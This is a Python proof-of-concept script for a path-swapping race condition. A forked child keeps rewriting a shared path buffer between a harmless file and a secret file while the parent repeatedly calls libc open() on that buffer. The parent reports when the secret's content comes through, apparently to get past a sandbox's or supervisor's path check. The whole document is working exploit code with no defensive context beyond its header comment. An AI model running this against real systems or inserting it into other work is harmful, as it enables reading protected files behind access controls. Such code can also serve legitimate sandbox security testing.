# Opens a path that another process changes all the while, and prints what it read that it should not have: ARGV is a harmless file
# and a secret one of which the paths are of the same length.
import ctypes, mmap, os, sys
plain, secret = (p.encode() for p in sys.argv[1:3])
room = mmap.mmap(-1, 4096)
room[:len(plain) + 1] = plain + b"\0"
at = ctypes.addressof(ctypes.c_char.from_buffer(room))
libc = ctypes.CDLL(None, use_errno=True)
libc.open.argtypes = [ctypes.c_void_p, ctypes.c_int]
child = os.fork()
if not child:
    while not room[4000]:
        room[:len(secret)] = secret
        room[:len(plain)] = plain
    os._exit(0)
read = 0
for i in range(int(sys.argv[3])):
    for flags in (0, os.O_RDWR, os.O_CREAT):
        fd = libc.open(at, flags)
        if fd < 0:
            continue
        read += 1
        text = os.read(fd, 100)
        os.close(fd)
        if b"hidden" in text:
            print("through", flags)
room[4000] = 1
print("opened" if read else "opened nothing")
